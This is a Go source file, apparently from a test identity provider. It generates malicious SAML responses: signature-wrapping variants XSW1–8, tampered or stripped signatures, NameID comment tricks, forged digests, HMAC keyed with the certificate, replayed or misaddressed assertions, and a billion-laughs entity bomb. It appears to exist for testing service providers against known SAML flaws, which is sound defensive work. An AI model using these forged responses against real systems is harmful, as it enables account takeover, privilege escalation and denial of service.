package idp

import (
	"crypto"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/pem"
	"strings"
	"time"

	"github.com/beevik/etree"
)

// ResponseAttacks are the attacks that the mint of a response can name, in
// the order of a menu. The first is none.
func ResponseAttacks() []Attack {
	var all []Attack
	for _, a := range responseAttacks {
		all = append(all, a.Attack)
	}
	return all
}

// responseAttack is an Attack and how it is staged on a response. Where fits
// is set, the attack needs what needs describes with its article.
type responseAttack struct {
	Attack
	stage func(*draft) string
	fits  func(*draft) bool
	needs string
}

// What attacks on responses bring in.
const (
	evilName     = "evil@attacker.test"
	evilRole     = "Admin"
	evilIssuer   = "https://attacker.test/saml"
	otherSystem  = "https://sp.example.com/saml/acs"
	otherEntity  = "https://sp.example.com/saml/metadata"
	evilID       = "_evil_assertion_ID" // as SAML Raider has them
	evilResponse = "_evil_response_ID"
)

func signs(d *draft) bool          { return d.sign.assertion || d.sign.response }
func signsInClear(d *draft) bool   { return signs(d) && d.cipher == nil }
func signsAssertion(d *draft) bool { return d.sign.assertion && d.cipher == nil }
func signsResponse(d *draft) bool  { return d.sign.response && d.cipher == nil }
func signsWithRSA(d *draft) bool   { return signs(d) && isRSA(d.seal.key) }

const (
	needsSignature = "a signature"
	needsClear     = "an assertion in the clear"
	needsSigned    = "a signature, and an assertion in the clear"
	needsAssertion = "a signed assertion in the clear"
	needsResponse  = "a signed response with its assertion in the clear"
)

// responseAttacks are those of Somorovsky et al., "On Breaking SAML: Be
// Whoever You Want to Be" (2012), as SAML Raider stages them, of advisories
// since, and of what the profile of SAML Web SSO (SAML Profiles §4.1) forbids.
var responseAttacks = []responseAttack{
	{Attack: Attack{"none", "No attack", "The response is honest: the identity provider's key signs what is described."},
		stage: (*draft).honest},

	// Signature wrapping.
	{Attack: Attack{"xsw1", "Wrapping 1: the signed Response inside its Signature", "The signed response is moved into the signature of a forged one; a reader that looks the signed element up by its ID and then reads the root takes the forgery."},
		stage: func(d *draft) string {
			forged, original := d.wrapped()
			signatureOf(forged).AddChild(original)
			return write(forged)
		}, fits: signsResponse, needs: needsResponse},
	{Attack: Attack{"xsw2", "Wrapping 2: the signed Response before its Signature", "The same with the signed response before the signature, which so has become detached; for readers that accept that."},
		stage: func(d *draft) string {
			forged, original := d.wrapped()
			forged.InsertChildAt(signatureOf(forged).Index(), original)
			return write(forged)
		}, fits: signsResponse, needs: needsResponse},
	{Attack: Attack{"xsw3", "Wrapping 3: a forged assertion before the signed one", "A forged assertion without signature stands before the signed one, for readers that find some good signature and read the first assertion."},
		stage: func(d *draft) string {
			root, signed, forged := d.copied()
			d.forge(forged, evilID)
			root.InsertChildAt(signed.Index(), forged)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"xsw4", "Wrapping 4: the signed assertion inside a forged one", "The signed assertion is moved to the end of a forged one, for readers that look the signed element up anywhere and read the root's assertion."},
		stage: func(d *draft) string {
			root, signed, forged := d.copied()
			d.forge(forged, evilID)
			root.AddChild(forged)
			forged.AddChild(signed)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"xsw5", "Wrapping 5: the signature in a forged assertion", "The forged assertion keeps the signature, and what was signed stands behind it; for readers that take the assertion with the signature for the signed one."},
		stage: func(d *draft) string {
			root, forged, original := d.copied()
			d.forge(forged, evilID)
			root.AddChild(original)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"xsw6", "Wrapping 6: the signed assertion inside its Signature", "The forged assertion keeps the signature, and what was signed is hidden in that signature."},
		stage: func(d *draft) string {
			root, forged, original := d.copied()
			d.forge(forged, evilID)
			signatureOf(forged).AddChild(original)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"xsw7", "Wrapping 7: a forged assertion in Extensions", "A forged assertion with the same ID stands in an element where the schema allows anything, for readers whose verifier and reader find different ones by that ID."},
		stage: func(d *draft) string {
			root, signed, forged := d.copied()
			d.forge(forged, "")
			extensions := etree.NewElement("Extensions")
			root.InsertChildAt(signed.Index(), extensions)
			extensions.AddChild(forged)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"xsw8", "Wrapping 8: the signed assertion in an Object", "The forged assertion keeps ID and signature, and what was signed is hidden in an object of that signature."},
		stage: func(d *draft) string {
			root, forged, original := d.copied()
			d.forge(forged, "")
			signatureOf(forged).CreateElement("Object").AddChild(original)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"second-assertion", "A forged assertion behind the signed one", "An unsigned assertion stands behind the signed one, for readers that check one and merge both."},
		stage: func(d *draft) string {
			root, signed, forged := d.copied()
			d.forge(forged, evilID)
			root.InsertChildAt(signed.Index()+1, forged)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"duplicate-id", "A forged assertion with the signed one's ID", "A forged assertion with the same ID stands before the signed one; a lookup by ID finds one or the other."},
		stage: func(d *draft) string {
			root, signed, forged := d.copied()
			d.forge(forged, "")
			root.InsertChildAt(signed.Index(), forged)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},
	{Attack: Attack{"signature-in-wrong-place", "The signature outside of what it signs", "The assertion's signature is moved up into the response, where one would take it for the response's own."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			signature := signatureOf(assertionOf(root))
			root.InsertChildAt(root.SelectElement("Issuer").Index()+1, signature)
			return write(root)
		}, fits: signsAssertion, needs: needsAssertion},

	// What was signed.
	{Attack: Attack{"unsigned", "No signature at all", "The attacker writes a response for evil@attacker.test and signs nothing, for readers that check a signature only where there is one."},
		stage: func(d *draft) string {
			d.sign = signMode{}
			root := d.build()
			d.forge(assertionOf(root), "")
			return write(d.sealed(root))
		}},
	{Attack: Attack{"stripped", "Signature removed", "An honest response, with every signature taken out."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			for _, e := range d.signedElements(root) {
				e.RemoveChild(signatureOf(e))
			}
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"tampered-name-id", "NameID changed after signing", "The NameID of an honest response is changed to evil@attacker.test under the old signature."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			find(assertionOf(root), "Subject", "NameID").SetText(evilName)
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"tampered-role", "Role changed after signing", "The role of an honest response is changed to Admin under the old signature."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			d.promote(assertionOf(root))
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"comment-in-name-id", "A comment inside the NameID", "Somebody whose name goes on with .evil.test puts a comment after the part that is another's; canonical XML leaves comments out, so that the signature stays good, and a reader that stops at the comment sees the other's name (CVE-2017-11427 and others)."},
		stage: func(d *draft) string {
			honest := d.nameID
			d.nameID += ".evil.test"
			root := d.sealed(d.build())
			name := find(assertionOf(root), "Subject", "NameID")
			name.SetText(honest)
			name.CreateComment("")
			name.CreateText(".evil.test")
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"pi-in-name-id", "A processing instruction inside the NameID", "The identity provider signs a NameID with a processing instruction in it; the signature is good, and a reader that stops there sees another name."},
		stage: func(d *draft) string {
			root := d.build()
			name := find(assertionOf(root), "Subject", "NameID")
			name.CreateProcInst("x", "y")
			name.CreateText(".evil.test")
			return write(d.sealed(root))
		}},

	// The signature.
	{Attack: Attack{"foreign-key", "Signed with another key", "The attacker signs with a key of their own and sends its certificate along, for readers that trust the certificate in the response."},
		stage: func(d *draft) string {
			d.signWith(d.keyring.forger(d.seal.key))
			return d.honest()
		}, fits: signs, needs: needsSignature},
	{Attack: Attack{"foreign-key-with-our-certificate", "Another key under our certificate", "The attacker signs with a key of their own and sends the identity provider's certificate, for readers that compare certificates and verify with something else."},
		stage: func(d *draft) string {
			ours := d.seal.certificate
			d.signWith(d.keyring.forger(d.seal.key))
			d.seal.certificate = ours
			return d.honest()
		}, fits: signs, needs: needsSignature},
	{Attack: Attack{"hmac-with-certificate", "HMAC with the certificate as secret", "The attacker computes an HMAC with the identity provider's certificate, which everybody has; a reader that lets the response choose the algorithm takes the certificate for the shared secret."},
		stage: func(d *draft) string {
			d.hashWith(crypto.SHA256)
			d.seal.method = digestMore + "hmac-sha256"
			d.seal.secret = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: d.seal.key.certificate()})
			return d.honest()
		}, fits: signs, needs: needsSignature},
	{Attack: Attack{"digest-comment", "A forged digest as a comment", "The assertion is forged, and its digest stands as a comment before the real one; canonical XML leaves the comment out, and a reader that takes the first node for the digest finds it right (CVE-2025-29775)."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			d.forge(assertionOf(root), "")
			for _, e := range d.signedElements(root) {
				value := find(signatureOf(e), "SignedInfo", "Reference", "DigestValue")
				value.InsertChildAt(0, etree.NewComment(d.digestOfSigned(e)))
			}
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"two-signed-infos", "Two SignedInfo elements", "The assertion is forged, and a second SignedInfo with its digest stands before the signed one, for readers that verify one and compare the digest of the other (CVE-2025-29774)."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			d.forge(assertionOf(root), "")
			for _, e := range d.signedElements(root) {
				signatureOf(e).InsertChildAt(0, d.signedInfo(e.SelectAttrValue("ID", ""), d.digestOfSigned(e)))
			}
			return write(root)
		}, fits: signsInClear, needs: needsSigned},
	{Attack: Attack{"xslt-transform", "A transform that makes everything the same", "The signature, a good one, has an XSLT transform that makes one word of any document, so that it fits a forged assertion too; and whoever runs the transforms of strangers runs their programs."},
		stage: func(d *draft) string {
			d.seal.xslt = true
			root := d.build()
			d.forge(assertionOf(root), "")
			return write(d.sealed(root))
		}, fits: signs, needs: needsSignature},
	{Attack: Attack{"md5", "Signed with MD5", "The identity provider signs with MD5, of which different documents with the same digest can be made."},
		stage: func(d *draft) string { d.hashWith(crypto.MD5); return d.honest() },
		fits:  signsWithRSA, needs: "a signature, and an RSA key"},
	{Attack: Attack{"sha1", "Signed with SHA-1", "The response is honest, and signed with SHA-1, as old identity providers do; whoever accepts it should know that collisions can be made."},
		stage: func(d *draft) string { d.hashWith(crypto.SHA1); return d.honest() },
		fits:  signs, needs: needsSignature},

	// What a genuine response says.
	{Attack: Attack{"expired", "A stolen response, used too late", "The response was issued two hours before the call and has been invalid for almost as long."},
		stage: func(d *draft) string {
			d.shift(-2 * time.Hour)
			return d.honest()
		}},
	{Attack: Attack{"not-yet-valid", "A response for later", "The response says that it mustn't be used for another hour."},
		stage: func(d *draft) string {
			d.times.notBefore = d.after(time.Hour)
			d.times.notOnOrAfter, d.times.confirmationNotOnOrAfter = d.after(2*time.Hour), d.after(2*time.Hour)
			return d.honest()
		}},
	{Attack: Attack{"redeemed-late", "Redeemed after ten minutes", "The response was issued ten minutes before the call and is valid for another hour; AWS wants it within five minutes of its issue, whatever it says."},
		stage: func(d *draft) string {
			d.times.issueInstant, d.times.authnInstant = d.after(-10*time.Minute), d.after(-10*time.Minute)
			d.times.notBefore = d.after(-15 * time.Minute)
			d.times.notOnOrAfter, d.times.confirmationNotOnOrAfter = d.after(time.Hour), d.after(time.Hour)
			return d.honest()
		}},
	{Attack: Attack{"session-expired", "A session that is over", "The response is fresh, and the session at the identity provider that it speaks of ended a minute ago."},
		stage: func(d *draft) string {
			d.times.authnInstant, d.times.sessionNotOnOrAfter = d.after(-8*time.Hour), d.after(-time.Minute)
			return d.honest()
		}},
	{Attack: Attack{"wrong-recipient", "A response for another system", "The response was to be sent to https://sp.example.com/saml/acs, and is replayed to AWS."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) { confirmationData(a).CreateAttr("Recipient", otherSystem) })
		}},
	{Attack: Attack{"missing-recipient", "No recipient", "The confirmation doesn't say where the response may be sent, which a bearer's must (SAML Profiles §4.1.4.2)."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) { confirmationData(a).RemoveAttr("Recipient") })
		}},
	{Attack: Attack{"wrong-audience", "An audience that isn't AWS", "The assertion is meant for https://sp.example.com/saml/metadata."},
		stage: func(d *draft) string { d.audience = otherEntity; return d.honest() }},
	{Attack: Attack{"missing-audience", "No audience", "The assertion doesn't say whom it is meant for, so that any system would do."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) { removeChild(a.SelectElement("Conditions"), "AudienceRestriction") })
		}},
	{Attack: Attack{"wrong-issuer", "Another issuer under the same key", "The key is the one that is registered, and the issuer is https://attacker.test/saml."},
		stage: func(d *draft) string { d.issuer = evilIssuer; return d.honest() }},
	{Attack: Attack{"no-name-id", "No NameID", "The subject has no name."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) { removeChild(a.SelectElement("Subject"), "NameID") })
		}},
	{Attack: Attack{"no-confirmation", "No subject confirmation", "Nothing says who may present the assertion, where and until when; the samples of many articles have none."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) { removeChild(a.SelectElement("Subject"), "SubjectConfirmation") })
		}},
	{Attack: Attack{"two-confirmations", "Two subject confirmations", "Besides AWS the assertion may be presented to https://sp.example.com/saml/acs; AWS wants exactly one."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) {
				second := find(a, "Subject", "SubjectConfirmation").Copy()
				second.SelectElement("SubjectConfirmationData").CreateAttr("Recipient", otherSystem)
				a.SelectElement("Subject").AddChild(second)
			})
		}},
	{Attack: Attack{"holder-of-key", "Not for bearers", "The assertion is for whoever proves to have a certain key, and not for whoever bears it; a browser proves nothing."},
		stage: func(d *draft) string {
			return d.with(func(a *etree.Element) {
				find(a, "Subject", "SubjectConfirmation").CreateAttr("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")
			})
		}},
	{Attack: Attack{"status-failure", "A sign-in that failed", "The response says that the sign-in failed, and carries an assertion nevertheless."},
		stage: func(d *draft) string {
			root := d.build()
			code := find(root, "Status", "StatusCode")
			code.CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
			set(code.CreateElement(qualified(d.profile.style.protocol, "StatusCode")), "Value", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed")
			return write(d.sealed(root))
		}},

	// The document.
	{Attack: Attack{"doctype", "A document type declaration", "The response begins with a document type, which SAML has no use for and in which entities and defaults can be declared."},
		stage: func(d *draft) string {
			root := d.sealed(d.build())
			return "<!DOCTYPE " + root.FullTag() + ">" + write(root)
		}},
	{Attack: Attack{"entity-bomb", "A billion laughs", "Nine entities, each ten times the one before, in a message of a few hundred bytes; a parser that replaces them runs out of memory before anybody looks at the signature."},
		stage: entityBomb},
	{Attack: Attack{"encrypted-for-someone-else", "Encrypted to another's key", "The assertion is encrypted to a key that AWS doesn't have."},
		stage: func(d *draft) string {
			if d.cipher == nil {
				d.cipher = &contentCiphers[len(contentCiphers)-1]
			}
			d.to.Encrypt = d.keyring.stranger(d.seal.key)
			return d.honest()
		}},
}

// with is the response whose assertion was changed before it was signed.
func (d *draft) with(change func(assertion *etree.Element)) string {
	root := d.build()
	change(assertionOf(root))
	return write(d.sealed(root))
}

// wrapped are a forged response that still has the signature, and the one
// that was signed, without it.
func (d *draft) wrapped() (forged, original *etree.Element) {
	forged = d.sealed(d.build())
	original = forged.Copy()
	original.RemoveChild(signatureOf(original))
	d.forge(assertionOf(forged), "")
	forged.CreateAttr("ID", evilResponse)
	return forged, original
}

// copied are a response, its signed assertion, and a copy of that without the
// signature.
func (d *draft) copied() (root, signed, unsigned *etree.Element) {
	root = d.sealed(d.build())
	signed = assertionOf(root)
	unsigned = signed.Copy()
	unsigned.RemoveChild(signatureOf(unsigned))
	return root, signed, unsigned
}

// forge makes the assertion one for the attacker, with that ID if there is one.
func (d *draft) forge(assertion *etree.Element, id string) {
	if name := find(assertion, "Subject", "NameID"); name != nil {
		name.SetText(evilName)
	}
	d.promote(assertion)
	set(assertion, "ID", id)
}

// promote makes every role of the assertion the one that the attacker wants.
func (d *draft) promote(assertion *etree.Element) {
	statement := assertion.SelectElement("AttributeStatement")
	if statement == nil {
		return
	}
	for _, attribute := range statement.SelectElements("Attribute") {
		if attribute.SelectAttrValue("Name", "") != attrRole {
			continue
		}
		for _, value := range attribute.SelectElements("AttributeValue") {
			parts := strings.Split(value.Text(), ",")
			for i, part := range parts {
				if account, _, ok := strings.Cut(part, ":role/"); ok {
					parts[i] = account + ":role/" + d.forgedRole
				}
			}
			value.SetText(strings.Join(parts, ","))
		}
	}
}

// signedElements are the elements of the response that are signed, the inner
// one first.
func (d *draft) signedElements(root *etree.Element) (signed []*etree.Element) {
	if d.sign.assertion {
		signed = append(signed, assertionOf(root))
	}
	if d.sign.response {
		signed = append(signed, root)
	}
	return signed
}

// digestOfSigned is the digest that an element has now, its own signature
// left out.
func (d *draft) digestOfSigned(e *etree.Element) string {
	e = e.Copy()
	e.RemoveChild(signatureOf(e))
	return d.digest(e)
}

func signatureOf(e *etree.Element) *etree.Element { return e.SelectElement("Signature") }

func confirmationData(assertion *etree.Element) *etree.Element {
	return find(assertion, "Subject", "SubjectConfirmation", "SubjectConfirmationData")
}

func removeChild(parent *etree.Element, name string) { parent.RemoveChild(parent.SelectElement(name)) }

// after is that long after the call's moment, as the profile writes times.
func (d *draft) after(distance time.Duration) string {
	return d.profile.style.instant(d.at.Add(distance))
}

// shift makes the response one that was issued at another moment.
func (d *draft) shift(distance time.Duration) {
	d.times.issueInstant, d.times.authnInstant = d.after(distance), d.after(distance)
	d.times.notBefore = d.after(distance - validity)
	d.times.notOnOrAfter, d.times.confirmationNotOnOrAfter = d.after(distance+validity), d.after(distance+validity)
}

// hmac is what stands for a signature where the secret is known to all.
func (s seal) hmac(signedInfo string) []byte {
	mac := hmac.New(sha256.New, s.secret)
	mac.Write([]byte(signedInfo))
	return mac.Sum(nil)
}

// xsltTransform adds a transform whose result is always xsltResult.
func xsltTransform(transforms *etree.Element) {
	const ns = "http://www.w3.org/1999/XSL/Transform"
	transform := set(transforms.CreateElement("ds:Transform"), "Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")
	sheet := set(transform.CreateElement("xsl:stylesheet"), "xmlns:xsl", ns, "version", "1.0")
	set(sheet.CreateElement("xsl:output"), "method", "text")
	set(sheet.CreateElement("xsl:template"), "match", "/").SetText(xsltResult)
}

const xsltResult = "anything"

func xsltDigest(hash crypto.Hash) string {
	return base64.StdEncoding.EncodeToString(digestOf(hash, xsltResult))
}

// entityBomb declares entities of which each has the one before ten times,
// and refers to the last where the schema has a message for people.
func entityBomb(d *draft) string {
	root := d.build()
	text(root.SelectElement("Status"), qualified(d.profile.style.protocol, "StatusMessage"), "&")
	root = d.sealed(root)
	var out strings.Builder
	out.WriteString("<!DOCTYPE " + root.FullTag() + " [<!ENTITY a0 \"ha\">")
	for i := range 9 {
		out.WriteString("<!ENTITY a" + string(rune('1'+i)) + " \"" + strings.Repeat("&a"+string(rune('0'+i))+";", 10) + "\">")
	}
	out.WriteString("]>")
	out.WriteString(strings.Replace(write(root), ">&amp;</", ">&a9;</", 1))
	return out.String()
}
